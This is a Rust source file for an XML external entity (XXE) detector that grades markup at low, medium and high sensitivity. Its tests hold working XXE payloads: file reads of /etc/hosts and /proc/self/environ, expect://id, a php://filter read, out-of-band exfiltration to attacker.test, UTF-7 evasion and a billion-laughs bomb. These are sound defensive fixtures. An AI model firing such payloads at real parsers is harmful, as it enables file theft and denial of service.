//! XML external entities (XXE): a document that makes the server's XML parser fetch a file or a URL, pull in an
//! external DTD or XInclude, or expand entities until it runs out of memory.
//!
//! A hand-written lexer walks the markup once (no regex, no allocation, linear in the value's length): `<!DOCTYPE`,
//! `<!ENTITY`, `<?xml … encoding=…?>`, element names, entity literals and `&name;` / `%name;` references. It runs on
//! the value with evasions undone and lower-cased (so `<!doctype`, `<!DocType`, `%`-encoded and NUL-padded UTF-16
//! forms all read alike), and again on the value as the parser reads it when the two differ (an entity value whose
//! `&quot;` the normaliser decoded would otherwise end the literal early). Whitespace is allowed wherever XML allows
//! it and also between `<!` and the keyword; `+ADw-` (`<` in UTF-7) opens markup like `<`.
//!
//! What each level reports:
//! - **Low**: an external entity (`<!ENTITY x SYSTEM "…">`, `PUBLIC`, parameter entities `<!ENTITY % p SYSTEM …>`,
//!   wherever it appears, also nested in another entity's value or as a fragment without a DOCTYPE); an external DTD
//!   (`<!DOCTYPE x SYSTEM "…">` or `PUBLIC`) other than the W3C's own DTDs (XHTML, SVG: never fetched from an
//!   attacker, and common in benign documents); an XInclude element together with the XInclude namespace.
//! - **Medium** (recommended) adds: an XInclude element (`<xi:include`, any prefix) without its namespace;
//!   parameter-entity references (`%p;`) inside a DTD and parameter entities with an internal value (the building
//!   blocks of out-of-band XXE); entity-expansion bombs (an entity whose value references other entities twice or
//!   more, as in "billion laughs", or 32 references or more to declared entities); an XSLT stylesheet that reads
//!   files or URLs or runs code (`document(`, `unparsed-text(`, `xsl:include`, `xsl:import`, `php:function`).
//! - **High** adds weak signals: any DOCTYPE with an internal subset or an internal entity declaration (`<!ENTITY foo
//!   "bar">`, the usual probe for entity processing), an external DTD from the W3C, the XInclude namespace alone,
//!   any XSLT stylesheet, a declared encoding other than the ASCII-compatible ones (`utf-16`, `utf-32`, `utf-7`,
//!   `ucs-*`, EBCDIC code pages: used to hide markup from filters), and a body that is itself UTF-16 (byte-order
//!   mark or NUL-interleaved).
//!
//! A plain XML document, `<!DOCTYPE html>`, an XHTML or SVG DOCTYPE naming the W3C's DTD, and prose with `&` or `%`
//! are benign at Low and Medium.

use super::{ByteSet, Level, Sensitivity, Subject};

/// Whether `subject` carries an XML external entity attack at `sensitivity`.
pub fn detect(subject: &Subject<'_>, sensitivity: Sensitivity) -> bool {
    // The scan needs markup (`<`, or `+` for UTF-7): the byte set says when there is none, without a scan. A value
    // that needed no decoding is the same slice as its decoded form: not compared byte by byte.
    let mut found = if subject.bytes.any_of(ByteSet::bytes(b"<+")) { scan(subject.lower) } else { Level::None };
    if !found.fires(sensitivity) && !std::ptr::eq(subject.raw, subject.decoded) && subject.raw != subject.decoded {
        found = found.max(scan(subject.raw));
    }
    if !found.fires(sensitivity) && utf16(subject.raw) {
        found = found.max(Level::High);
    }
    found.fires(sensitivity)
}

/// References in one document to declared entities from which on it is an expansion attack (quadratic blowup).
const MANY_REFERENCES: u32 = 32;
/// References in one entity's value from which on it is an expansion bomb (each level multiplies the text).
const BOMB_REFERENCES: u32 = 2;

/// What the lexer knows so far about one document.
#[derive(Default)]
struct State {
    /// The strongest finding so far.
    found: Option<Level>,
    /// Inside a DOCTYPE's internal subset (`[` … `]`).
    subset: bool,
    /// An ENTITY declaration was seen: `&name;` then may refer to a declared entity.
    entities_declared: bool,
    /// A parameter entity was declared: `%name;` is then a reference even outside the subset.
    parameter_declared: bool,
    /// Inside an entity's value: the quote that closes it.
    literal: Option<u8>,
    /// Entity references in the current entity value.
    literal_references: u32,
    /// References to declared entities outside entity values.
    references: u32,
    /// The XInclude namespace URI was seen.
    xinclude_namespace: bool,
    /// An XSLT stylesheet's root element was seen.
    xslt: bool,
}

impl State {
    /// Records a finding.
    fn report(&mut self, level: Level) {
        self.found = Some(self.level().max(level));
    }

    /// The strongest finding so far.
    fn level(&self) -> Level {
        self.found.unwrap_or(Level::None)
    }
}

/// Lexes `text` (compared without regard to ASCII case) and returns the strongest finding.
fn scan(text: &[u8]) -> Level {
    // Nothing is declared, included or transformed without markup: most values end here, at memchr's speed.
    if memchr::memchr2(b'<', b'+', text).is_none() {
        return Level::None;
    }
    let mut st = State::default();
    if memchr::memmem::find(text, b"www.w3.org/2001/xinclude").is_some()
        || memchr::memmem::find(text, b"www.w3.org/2001/XInclude").is_some()
    {
        st.xinclude_namespace = true;
        st.report(Level::High);
    }
    let mut i = 0;
    while i < text.len() && st.level() < Level::Low {
        // Until an entity is declared, only markup matters: jump to it.
        if st.literal.is_none() && !st.subset && !st.entities_declared {
            match memchr::memchr2(b'<', b'+', text.get(i..).unwrap_or_default()) {
                Some(skip) => i += skip,
                None => break,
            }
        }
        let c = lower(text, i);
        if let Some(quote) = st.literal {
            if c == quote {
                st.literal = None;
                if st.literal_references >= BOMB_REFERENCES {
                    st.report(Level::Medium);
                }
                i += 1;
                continue;
            }
        }
        i = match c {
            b'<' => markup(text, i + 1, &mut st),
            // `<` in UTF-7, for documents declared in it that a parser decodes before reading markup.
            b'+' if word_at(text, i, b"+adw-") => markup(text, i + 5, &mut st),
            b'&' => reference(text, i + 1, b'&', &mut st),
            b'%' => reference(text, i + 1, b'%', &mut st),
            b']' if st.literal.is_none() => {
                st.subset = false;
                i + 1
            }
            _ => i + 1,
        };
    }
    if st.xslt && st.level() < Level::Medium && XSLT_ACCESS.iter().any(|f| memchr::memmem::find(text, f).is_some()) {
        st.report(Level::Medium);
    }
    st.level()
}

/// What an XSLT stylesheet calls to read files or URLs, or to run code (compared in lower case).
const XSLT_ACCESS: [&[u8]; 6] =
    [b"document(", b"unparsed-text(", b"php:function", b"xsl:include", b"xsl:import", b"system-property("];

/// Lexes the markup after a `<` at `at`; returns where to go on (always past `at - 1`).
fn markup(text: &[u8], at: usize, st: &mut State) -> usize {
    match lower(text, at) {
        b'!' => {
            let i = skip_ws(text, at + 1);
            if word_at(text, i, b"doctype") {
                doctype(text, i + 7, st)
            } else if word_at(text, i, b"entity") {
                entity(text, i + 6, st)
            } else {
                i
            }
        }
        b'?' => {
            if word_at(text, at + 1, b"xml") {
                xml_declaration(text, at + 4, st)
            } else {
                at + 1
            }
        }
        _ => {
            let end = name_end(text, at);
            let name = text.get(at..end).unwrap_or_default();
            if name.len() > 8 && ends_with_ignore_case(name, b":include") {
                st.report(if st.xinclude_namespace { Level::Low } else { Level::Medium });
            }
            if ends_with_ignore_case(name, b":stylesheet") || ends_with_ignore_case(name, b":transform") {
                st.xslt = true;
                st.report(Level::High);
            }
            end
        }
    }
}

/// Lexes a DOCTYPE after its keyword.
fn doctype(text: &[u8], at: usize, st: &mut State) -> usize {
    let mut i = skip_ws(text, at);
    i = name_end(text, i);
    i = skip_ws(text, i);
    if word_at(text, i, b"system") {
        let (end, uri) = literal(text, skip_ws(text, i + 6));
        external_dtd(uri, st);
        i = end;
    } else if word_at(text, i, b"public") {
        let (end, _public_id) = literal(text, skip_ws(text, i + 6));
        let (end, uri) = literal(text, skip_ws(text, end));
        external_dtd(uri, st);
        i = end;
    }
    i = skip_ws(text, i);
    if lower(text, i) == b'[' {
        st.subset = true;
        st.report(Level::High);
        i += 1;
    }
    i
}

/// Reports an external DTD: the W3C's own DTDs (and HTML5's legacy-compat marker) only as a weak signal.
fn external_dtd(uri: &[u8], st: &mut State) {
    let known = starts_with_ignore_case(uri, b"http://www.w3.org/")
        || starts_with_ignore_case(uri, b"https://www.w3.org/")
        || uri.eq_ignore_ascii_case(b"about:legacy-compat");
    st.report(if known { Level::High } else { Level::Low });
}

/// Lexes an ENTITY declaration after its keyword.
fn entity(text: &[u8], at: usize, st: &mut State) -> usize {
    st.entities_declared = true;
    st.report(Level::High);
    let mut i = skip_ws(text, at);
    // `%` also as a character reference: the form it takes in a declaration nested in another entity's value.
    let sigil = [&b"%"[..], b"&#37;", b"&#x25;"].into_iter().find(|s| word_at(text, i, s));
    let parameter = sigil.is_some();
    if let Some(sigil) = sigil {
        st.parameter_declared = true;
        i = skip_ws(text, i + sigil.len());
    }
    i = skip_ws(text, name_end(text, i));
    if word_at(text, i, b"system") || word_at(text, i, b"public") {
        st.report(Level::Low);
        return i + 6;
    }
    let quote = lower(text, i);
    if quote == b'"' || quote == b'\'' {
        if parameter {
            st.report(Level::Medium);
        }
        // The main loop walks the value, so declarations and references nested in it are seen too.
        st.literal = Some(quote);
        st.literal_references = 0;
        return i + 1;
    }
    i
}

/// Lexes an XML declaration's pseudo-attributes for the declared encoding; stops at `?>` or the next `<`.
fn xml_declaration(text: &[u8], at: usize, st: &mut State) -> usize {
    let mut i = at;
    while i < text.len() {
        match lower(text, i) {
            b'<' => return i,
            b'?' if lower(text, i + 1) == b'>' => return i + 2,
            b'e' if word_at(text, i, b"encoding") => {
                let mut j = skip_ws(text, i + 8);
                if lower(text, j) == b'=' {
                    j = skip_ws(text, j + 1);
                    let (end, name) = literal(text, j);
                    if hiding_encoding(name) {
                        st.report(Level::High);
                    }
                    i = end.max(i + 1);
                    continue;
                }
                i += 1;
            }
            _ => i += 1,
        }
    }
    i
}

/// Encodings in which ASCII markup is not ASCII bytes, so a filter reading bytes would miss it.
fn hiding_encoding(name: &[u8]) -> bool {
    const PREFIXES: [&[u8]; 9] =
        [b"utf-16", b"utf16", b"utf-32", b"utf32", b"utf-7", b"utf7", b"ucs", b"ebcdic", b"unicode"];
    const CODE_PAGES: [&[u8]; 8] =
        [b"cp037", b"cp500", b"cp875", b"cp1026", b"ibm037", b"ibm500", b"ibm1047", b"cp1047"];
    PREFIXES.iter().any(|p| starts_with_ignore_case(name, p)) || CODE_PAGES.iter().any(|p| name.eq_ignore_ascii_case(p))
}

/// Lexes a `&name;` or `%name;` reference whose name starts at `at`.
fn reference(text: &[u8], at: usize, sigil: u8, st: &mut State) -> usize {
    let end = name_end(text, at);
    if end == at || lower(text, end) != b';' {
        return at;
    }
    let name = text.get(at..end).unwrap_or_default();
    if sigil == b'%' {
        if st.subset || st.literal.is_some() || st.parameter_declared {
            st.report(Level::Medium);
        }
        return end + 1;
    }
    let predefined = [&b"lt"[..], b"gt", b"amp", b"quot", b"apos"].iter().any(|p| name.eq_ignore_ascii_case(p));
    if predefined || name.first() == Some(&b'#') {
        return end + 1;
    }
    if st.literal.is_some() {
        st.literal_references = st.literal_references.saturating_add(1);
    } else if st.entities_declared {
        st.references = st.references.saturating_add(1);
        if st.references >= MANY_REFERENCES {
            st.report(Level::Medium);
        }
    }
    end + 1
}

/// A quoted literal at `at`: where lexing goes on, and its content (empty if there is none). A literal stops at a
/// `<` (no identifier or encoding name holds one), so an unclosed quote cannot hide the markup after it.
fn literal(text: &[u8], at: usize) -> (usize, &[u8]) {
    let quote = lower(text, at);
    if quote != b'"' && quote != b'\'' {
        return (at, &[]);
    }
    let rest = text.get(at + 1..).unwrap_or_default();
    match memchr::memchr2(quote, b'<', rest) {
        Some(len) if rest.get(len) == Some(&quote) => (at + 2 + len, rest.get(..len).unwrap_or_default()),
        Some(len) => (at + 1 + len, rest.get(..len).unwrap_or_default()),
        None => (text.len(), rest),
    }
}

/// Whether `raw` is UTF-16 text: a byte-order mark, or markup with NULs between its bytes.
fn utf16(raw: &[u8]) -> bool {
    matches!(raw, [0xfe, 0xff, ..] | [0xff, 0xfe, ..] | [b'<', 0, ..] | [0, b'<', ..])
}

/// The byte at `i` in ASCII lower case, or NUL past the end.
fn lower(text: &[u8], i: usize) -> u8 {
    text.get(i).map_or(0, u8::to_ascii_lowercase)
}

/// Whether `word` (lower case) is at `i`, compared without regard to case.
fn word_at(text: &[u8], i: usize, word: &[u8]) -> bool {
    text.get(i..i + word.len()).is_some_and(|w| w.eq_ignore_ascii_case(word))
}

/// Whether `text` starts with `prefix`, compared without regard to case.
fn starts_with_ignore_case(text: &[u8], prefix: &[u8]) -> bool {
    text.get(..prefix.len()).is_some_and(|p| p.eq_ignore_ascii_case(prefix))
}

/// Whether `text` ends with `suffix`, compared without regard to case.
fn ends_with_ignore_case(text: &[u8], suffix: &[u8]) -> bool {
    text.len() >= suffix.len() && text.get(text.len() - suffix.len()..).is_some_and(|s| s.eq_ignore_ascii_case(suffix))
}

/// The first index at or after `i` that is not XML whitespace.
fn skip_ws(text: &[u8], mut i: usize) -> usize {
    while matches!(text.get(i), Some(b' ' | b'\t' | b'\r' | b'\n')) {
        i += 1;
    }
    i
}

/// The end of the XML name starting at `i` (no markup, quote or whitespace byte can be in a name).
fn name_end(text: &[u8], mut i: usize) -> usize {
    while let Some(&c) = text.get(i) {
        if matches!(
            c,
            b' ' | b'\t' | b'\r' | b'\n' | b'<' | b'>' | b'"' | b'\'' | b'[' | b']' | b'/' | b';' | b'=' | b'&' | b'%'
        ) {
            break;
        }
        i += 1;
    }
    i
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attacks::Place;

    fn at(text: &str, sensitivity: Sensitivity) -> bool {
        let lower = text.to_ascii_lowercase();
        detect(&Subject::plain(text.as_bytes(), lower.as_bytes(), Place::Xml), sensitivity)
    }

    /// The lowest sensitivity at which `text` is reported, if any.
    fn level(text: &str) -> Option<Sensitivity> {
        [Sensitivity::Low, Sensitivity::Medium, Sensitivity::High].into_iter().find(|s| at(text, *s))
    }

    #[test]
    fn external_entities_are_unmistakable() {
        for text in [
            r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]><r>&e;</r>"#,
            r#"<!DOCTYPE r [<!ENTITY e PUBLIC "-//x//y" "http://attacker.test/x">]>"#,
            r#"<!DOCTYPE r [ <!ENTITY % p SYSTEM "http://attacker.test/x.dtd"> %p; ]>"#,
            "<!entity   e\n\tsystem 'expect://id'>",
            "<!DocType r [<!EnTiTy e SyStEm \"php://filter/resource=index.php\">]>",
            "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-!DOCTYPE r +AFs-+ADw-!ENTITY e SYSTEM +ACI-file:///etc/hosts+ACI-+AD4-",
            "<! ENTITY e SYSTEM \"/proc/self/environ\">",
            r#"<!DOCTYPE r SYSTEM "http://attacker.test/evil.dtd"><r/>"#,
            r#"<!DOCTYPE r PUBLIC "-//A//B//EN" "http://attacker.test/evil.dtd">"#,
            // A declaration nested in a parameter entity's value, its `%` written as a character reference.
            r#"<!ENTITY % outer "<!ENTITY &#x25; inner SYSTEM 'http://attacker.test/?%data;'>">"#,
            r#"<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hosts"/></r>"#,
        ] {
            assert_eq!(level(text), Some(Sensitivity::Low), "{text}");
        }
    }

    #[test]
    fn building_blocks_and_bombs_are_medium() {
        for text in [
            r#"<doc><xi:include href="secret.txt" parse="text"/></doc>"#,
            r#"<!DOCTYPE r [<!ENTITY % a "<!ELEMENT r ANY>"> %a;]>"#,
            r#"<!DOCTYPE b [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><b>&c;</b>"#,
            r#"<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="unparsed-text('/etc/hosts')"/></xsl:template></xsl:stylesheet>"#,
        ] {
            assert_eq!(level(text), Some(Sensitivity::Medium), "{text}");
        }
        let many = format!("<!DOCTYPE r [<!ENTITY a \"{}\">]><r>{}</r>", "x".repeat(100), "&a;".repeat(40));
        assert_eq!(level(&many), Some(Sensitivity::Medium));
    }

    #[test]
    fn weak_signals_are_high() {
        for text in [
            r#"<!DOCTYPE r [<!ENTITY name "value">]><r>&name;</r>"#,
            r#"<!DOCTYPE r [<!ELEMENT r ANY>]><r/>"#,
            r#"<?xml version="1.0" encoding="UTF-16"?><r/>"#,
            r#"<?xml version='1.0' encoding='utf-7'?><r/>"#,
            r#"<xsl:stylesheet version="1.0"><xsl:template match="/"><b><xsl:value-of select="name"/></b></xsl:template></xsl:stylesheet>"#,
            r#"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">"#,
        ] {
            assert_eq!(level(text), Some(Sensitivity::High), "{text}");
        }
        let utf16: Vec<u8> = "<?xml?>".bytes().flat_map(|b| [b, 0]).collect();
        let subject = Subject::plain(&utf16, &utf16, Place::Body);
        assert!(detect(&subject, Sensitivity::High));
        assert!(!detect(&subject, Sensitivity::Medium));
    }

    #[test]
    fn an_unclosed_quote_hides_nothing() {
        for text in [
            r#"<?xml version="1.0" encoding='utf-8?><!DOCTYPE r SYSTEM "http://attacker.test/x.dtd"><r a='b'/>"#,
            r#"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN <!ENTITY e SYSTEM 'file:///etc/hosts'>"#,
        ] {
            assert_eq!(level(text), Some(Sensitivity::Low), "{text}");
        }
    }

    #[test]
    fn the_parser_view_is_lexed_too() {
        // The normaliser decoded `&quot;` inside the entity value; the raw view keeps the literal whole.
        let raw = br#"<!DOCTYPE r [<!ENTITY q "&quot;"><!ENTITY e SYSTEM "http://attacker.test/">]>"#;
        let decoded = br#"<!DOCTYPE r [<!ENTITY q """><!ENTITY e SYSTEM "http://attacker.test/">]>"#;
        let lower = decoded.to_ascii_lowercase();
        let subject = Subject {
            raw,
            decoded,
            lower: &lower,
            bytes: crate::attacks::ByteSet::of(&lower),
            is_name: false,
            place: Place::Xml,
        };
        assert!(detect(&subject, Sensitivity::Low));
    }

    #[test]
    fn benign_documents_pass() {
        for text in [
            r#"<?xml version="1.0" encoding="UTF-8"?><order id="7"><item qty="2">Tea &amp; biscuits</item></order>"#,
            "<!DOCTYPE html><html><body><p>Hello</p></body></html>",
            r#"<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>"#,
            "<!DOCTYPE html SYSTEM \"about:legacy-compat\">",
            "Save 20%; offer ends soon & more;",
            "the system entity in our data model is public",
            "<include file=\"a\"/> <b>bold</b> a < b && c > d",
            "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><note><to>Tove</to></note>",
            // Named HTML entities the normaliser may leave alone are not references to declared entities.
            &format!("<!DOCTYPE html><p>{}</p>", "&hellip;&mdash;".repeat(40)),
        ] {
            assert_eq!(level(text).filter(|s| *s != Sensitivity::High), None, "{text}");
        }
    }

    #[test]
    fn linear_on_long_runs() {
        for unit in ["<!ENTITY ", "<!", "&a;", "%a;", "<x:include ", "<?xml encoding=", "\"", " "] {
            let text = unit.repeat(20_000);
            let _ = at(&text, Sensitivity::High);
        }
    }

    #[test]
    fn never_panics_on_any_bytes() {
        let mut rng = crate::token_analysis::test_rng::Rng(0x9e37_79b9_7f4a_7c15);
        let mut next = move || rng.next();
        let seeds: [&[u8]; 4] = [
            b"<!DOCTYPE r [<!ENTITY % e SYSTEM \"x\">%e;]><r>&e;</r>",
            b"<?xml encoding='utf-16'?><xi:include/>",
            b"<!ENTITY a \"&b;&b;\">",
            b"",
        ];
        for round in 0..4_000 {
            let seed = seeds.get(round % seeds.len()).copied().unwrap_or_default();
            let mut bytes = seed.to_vec();
            for _ in 0..(next() % 8) {
                let r = next();
                let pick = b"<!>[]%&;'\" xX\0\xff"[(r as usize >> 8) % 15];
                match r % 3 {
                    0 if !bytes.is_empty() => {
                        let i = (r as usize >> 16) % bytes.len();
                        bytes[i] = pick;
                    }
                    1 => bytes.insert((r as usize >> 16) % (bytes.len() + 1), pick),
                    _ => bytes.truncate((r as usize >> 16) % (bytes.len() + 1)),
                }
            }
            if round % 5 == 0 {
                bytes = (0..next() % 64).map(|_| next() as u8).collect();
            }
            let lower = bytes.to_ascii_lowercase();
            for sensitivity in [Sensitivity::Low, Sensitivity::Medium, Sensitivity::High] {
                let _ = detect(&Subject::plain(&bytes, &lower, Place::Xml), sensitivity);
                let _ = detect(
                    &Subject {
                        raw: &bytes,
                        decoded: &lower,
                        lower: &lower,
                        bytes: crate::attacks::ByteSet::of(&lower),
                        is_name: false,
                        place: Place::Body,
                    },
                    sensitivity,
                );
            }
        }
    }
}
